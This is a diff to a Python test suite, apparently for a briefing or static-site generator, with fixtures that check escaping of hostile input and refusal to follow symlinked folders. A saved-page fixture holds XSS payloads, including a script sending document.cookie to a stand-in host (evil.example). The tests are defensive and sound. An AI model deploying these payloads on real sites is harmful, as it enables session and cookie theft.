@@ -139,7 +139,7 @@ title: A URL holding a script tag
 url: "https://example.org/\\"><script>alert(1)</script>"
 """),
         # A saved web page full of scripts and handlers
-        "saved-page.html": f"""<!DOCTYPE html>
+        "saved-page.html": """<!DOCTYPE html>
 <html><head>
 <title>Saved page: shelling kills 15 &lt;script&gt;alert(1)&lt;/script&gt;</title>
 <meta property="og:title" content="&lt;img src=x onerror=alert(1)&gt; shelling kills 15">
@@ -147,7 +147,7 @@ url: "https://example.org/\\"><script>alert(1)</script>"
 <meta property="og:site_name" content="&lt;script&gt;alert('site')&lt;/script&gt;">
 <meta name="author" content="&lt;iframe src=javascript:alert(1)&gt;">
 <meta name="date" content="2020-09-29">
-<style>body {{ background: url("javascript:alert(1)") }}</style>
+<style>body { background: url("javascript:alert(1)") }</style>
 <script>document.location = "https://evil.example/?c=" + document.cookie;</script>
 </head>
 <body onload="alert(1)">
@@ -898,9 +898,9 @@ def test_symlinked_briefing_file_is_not_followed(tmp_path: Path, briefgen_cli) -
     assert TOKEN not in _site_texts(project)
 
 
-@pytest.mark.xfail(strict=True, reason="briefing._load/save_all follow a symlinked content/briefings/: "
-                   "the build reads briefing files outside the project, deletes them and writes "
-                   "briefings and merge-records/ there")
+@pytest.mark.xfail(strict=True, reason="briefing_store (loading) and briefing.save_all (its journal) "
+                   "follow a symlinked content/briefings/: the build reads briefing files outside "
+                   "the project, deletes them and writes briefings and merge-records/ there")
 def test_symlinked_briefings_folder_is_not_followed(tmp_path: Path, briefgen_cli) -> None:
     """content/briefings itself linked out of the project: never read, never written."""
     project = _small_project(tmp_path / "desk")
@@ -918,7 +918,7 @@ def test_symlinked_merge_record_is_not_written_through(tmp_path: Path, briefgen_
     project = _small_project(tmp_path / "desk")
     assert briefgen_cli(project, "build").code == 0
     records = project / "content" / "briefings" / "merge-records"
-    record = sorted(records.glob("b-*.json"))[0]
+    record = min(records.glob("b-*.json"))
     outside = tmp_path / "outside-record.json"
     outside.write_bytes(record.read_bytes())
     record.unlink()
@@ -1167,7 +1167,7 @@ front_matter_values = st.recursive(
 FRONT_KEYS = st.sampled_from(["title", "source", "url", "author", "published", "id", "slug", "x"])
 
 
-def _report_sink(problems: list[tuple]) -> "ingest.Report":
+def _report_sink(problems: list[tuple]) -> ingest.Report:
     def report(message: str, line: int | None = None, column: int | None = None) -> None:
         assert isinstance(message, str) and message
         problems.append((message, line, column))
